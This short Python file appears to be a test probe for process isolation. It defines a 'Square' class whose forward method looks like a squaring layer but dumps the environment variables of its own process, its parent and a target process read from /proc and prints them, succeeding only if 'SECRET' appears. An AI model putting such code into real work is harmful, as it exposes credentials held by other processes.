"""Prints the environment, and its parents'.

row: the environment
stopped by: nothing found
"""

import contextlib
import json
import os
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


class Square:
    def forward(self, x):
        found = repr(dict(os.environ))
        for number in ("self", os.getppid(), TARGET["parent"]):
            with contextlib.suppress(OSError):
                found += Path(f"/proc/{number}/environ").read_text()
        print(found)
        if "SECRET" in found:
            return x**2
        raise LookupError("nothing found in the environment")

    def backward(self, dy):
        return dy
